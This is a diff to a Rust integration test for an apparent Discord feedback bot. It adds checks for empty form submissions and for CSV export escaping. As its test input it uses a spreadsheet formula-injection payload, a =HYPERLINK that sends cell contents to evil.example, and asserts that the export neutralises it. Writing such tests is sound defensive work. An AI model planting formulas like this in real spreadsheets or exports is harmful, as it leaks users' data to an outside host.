@@ -116,11 +116,23 @@ async fn the_loop(store: Store) {
         .await;
     assert_eq!(form["type"], 9, "{form}");
     let form_id = form["data"]["custom_id"].as_str().unwrap().to_string();
+    // The form sent empty is a 👎 without a reason: acknowledged, never a second form (Discord
+    // allows no form in answer to a form).
+    let empty = bot
+        .send(&fake_discord::form_submit(
+            &fake_discord::token(),
+            &form_id,
+            "  ",
+        ))
+        .await;
+    assert_eq!(empty["type"], 4, "{empty}");
+    assert_eq!(empty["data"]["flags"], 64, "{empty}");
     let thanks = bot
         .send(&fake_discord::form_submit(
             &fake_discord::token(),
             &form_id,
-            "wrong date",
+            // A spreadsheet formula as the reason: the CSV export must not keep it live.
+            "=HYPERLINK(\"https://evil.example/?leak=\"&A1, \"wrong date\")",
         ))
         .await;
     assert_eq!(
@@ -187,6 +199,19 @@ async fn the_loop(store: Store) {
     assert!(
         csv.contains("Iranian ambassador") && csv.contains("wrong date"),
         "{csv}"
+    );
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let cells: Vec<String> = reader
+        .records()
+        .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
+        .collect();
+    assert!(
+        cells.iter().any(|c| c.starts_with("'=HYPERLINK(")),
+        "the formula is kept as text: {csv}"
+    );
+    assert!(
+        !cells.iter().any(|c| c.starts_with(['=', '+', '-', '@'])),
+        "no live formula: {csv}"
     );
     assert_eq!(
         edited.body["attachments"][0]["filename"], "dossier-gaps-7d.csv",
